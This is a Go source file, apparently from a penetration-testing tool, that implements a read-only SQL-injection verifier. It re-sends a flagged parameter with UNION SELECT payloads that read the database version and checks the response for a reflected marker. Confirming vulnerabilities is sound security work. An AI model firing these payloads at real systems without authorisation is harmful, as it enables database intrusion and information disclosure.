// internal/exploiters/sqli/sqli.go
package sqli

import (
	"context"
	"fmt"
	"strings"
	"time"

	"redtrace/internal/core/domain"
	"redtrace/internal/core/ports"
	"redtrace/internal/platform/httpclient"
	"redtrace/internal/platform/logx"
	"redtrace/internal/platform/registry"
)

// extractionProbes intentan leer metadatos del motor con payloads UNION de
// solo lectura. El marcador permite distinguir la inyección reflejada de
// contenido legítimo.
const marker = "rtx_marker"

var extractionProbes = []string{
	"' UNION SELECT '" + marker + "',version()--",
	"\" UNION SELECT \"" + marker + "\",version()--",
	"' UNION SELECT '" + marker + "',@@version--",
}

// Auto-registro del exploiter al importar el package
func init() {
	if err := registry.Exploiters().Register(
		"sqli",
		func(cfg ports.CollaboratorConfig, logger logx.Logger) (ports.Exploiter, error) {
			return New(cfg, logger), nil
		},
		ports.CollaboratorMetadata{
			Name:            "sqli",
			Description:     "Read-only UNION-based SQL injection verification",
			Version:         "1.0.0",
			RequiresNetwork: true,
		},
	); err != nil {
		logx.New().Warn("failed to register sqli exploiter", "error", err.Error())
	}
}

// Exploiter verifica hallazgos SQLi re-inyectando payloads de extracción
// de solo lectura. Nunca escribe ni altera datos del objetivo.
type Exploiter struct {
	client *httpclient.Client
	logger logx.Logger
}

// New crea el exploiter SQLi.
func New(cfg ports.CollaboratorConfig, logger logx.Logger) *Exploiter {
	timeout := cfg.Timeout
	if timeout <= 0 {
		timeout = 15 * time.Second
	}

	httpCfg := httpclient.Config{
		Timeout:    timeout,
		MaxRetries: 0,
		RateLimit:  5.0,
	}

	return &Exploiter{
		client: httpclient.New(httpCfg, logger),
		logger: logger.With("exploiter", "sqli"),
	}
}

// Name retorna el nombre del exploiter.
func (e *Exploiter) Name() string { return "sqli" }

// CanExploit aplica solo a hallazgos de tipo SQLi con URL y parámetro.
func (e *Exploiter) CanExploit(v domain.Vulnerability) bool {
	return v.Type == domain.VulnTypeSQLi && v.URL != "" && v.Parameter != ""
}

// Execute re-inyecta el parámetro vulnerable con payloads de extracción.
// El éxito exige el marcador reflejado en la respuesta; si además se
// reconoce la versión del motor, se adjunta como dato extraído.
func (e *Exploiter) Execute(ctx context.Context, v domain.Vulnerability) (domain.ExploitResult, error) {
	result := domain.ExploitResult{
		Fingerprint: v.Fingerprint(),
		Exploiter:   e.Name(),
		Data:        make(map[string]string),
		Timestamp:   time.Now(),
	}

	for _, probe := range extractionProbes {
		if ctx.Err() != nil {
			return result, ctx.Err()
		}

		body, _, err := e.client.GetWithParams(ctx, v.URL, map[string]string{v.Parameter: probe})
		if err != nil {
			return result, err
		}

		text := string(body)
		if !strings.Contains(text, marker) {
			continue
		}

		result.Success = true
		result.Evidence = fmt.Sprintf("UNION payload reflected via parameter %q", v.Parameter)
		result.Data["payload"] = probe
		if version := extractVersion(text); version != "" {
			result.Data["db_version"] = version
		}
		e.logger.Info("sqli exploitation confirmed", "url", v.URL, "parameter", v.Parameter)
		return result, nil
	}

	result.Success = false
	result.Evidence = "extraction probes not reflected, injection likely not exploitable"
	return result, nil
}

// extractVersion busca un identificador de versión de motor SQL cerca
// del marcador reflejado.
func extractVersion(body string) string {
	idx := strings.Index(body, marker)
	if idx < 0 {
		return ""
	}
	tail := body[idx+len(marker):]
	if len(tail) > 200 {
		tail = tail[:200]
	}
	for _, engine := range []string{"MySQL", "MariaDB", "PostgreSQL", "Microsoft SQL Server", "SQLite"} {
		if pos := strings.Index(tail, engine); pos >= 0 {
			end := pos
			for end < len(tail) && tail[end] != '<' && tail[end] != '\n' && end-pos < 80 {
				end++
			}
			return strings.TrimSpace(tail[pos:end])
		}
	}
	return ""
}
